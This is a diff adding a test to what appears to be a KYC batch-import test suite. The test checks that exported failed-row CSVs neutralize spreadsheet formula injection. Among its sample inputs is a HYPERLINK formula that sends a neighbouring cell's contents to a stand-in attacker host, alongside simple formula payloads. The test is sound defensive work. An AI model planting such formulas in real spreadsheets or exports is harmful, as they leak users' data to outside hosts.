@@ -130,6 +130,20 @@ describe('batch processing', () => {
     assert.equal(retry.body.code, '0701020300');
   });
 
+  it('writes the failed rows with formula cells neutralized: a leading apostrophe for = + - @', async () => {
+    const hostile = ['=HYPERLINK("https://evil.example/?"&B2;"open")', '+1+1', '-2+3', '@SUM(A1)'];
+    const tokens = hostile.map((_, i) => `tok-formula-${n}-${i}`);
+    n++;
+    const res = await upload(stack, key, csvOf('externalId,shareToken', hostile.map((e, i) => [`"${e.replaceAll('"', '""')}"`, tokens[i]!])));
+    assert.equal(res.status, 201, res.text);
+    await waitForBatch(stack, key, res.body.batchId);
+    const csv = await stack.request('GET', `/entity/kyc/import/batch/${res.body.batchId}/failed-rows`, { key });
+    const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
+    assert.deepEqual(rows.map((r) => r.externalId), hostile.map((h) => `'${h}`), 'no cell a spreadsheet would run');
+    assert.deepEqual(rows.map((r) => r.shareToken), tokens, 'ordinary cells unchanged');
+    for (const line of csv.text.split('\n').slice(1).filter(Boolean)) assert.doesNotMatch(line, /^"?[=+\-@]/);
+  });
+
   it('retries only the retryable failed rows once the provider is back', async () => {
     const [a, b] = [ext('flaky'), ext('flaky')];
     await createEntities(stack, key, [a, b, ext('never')]);
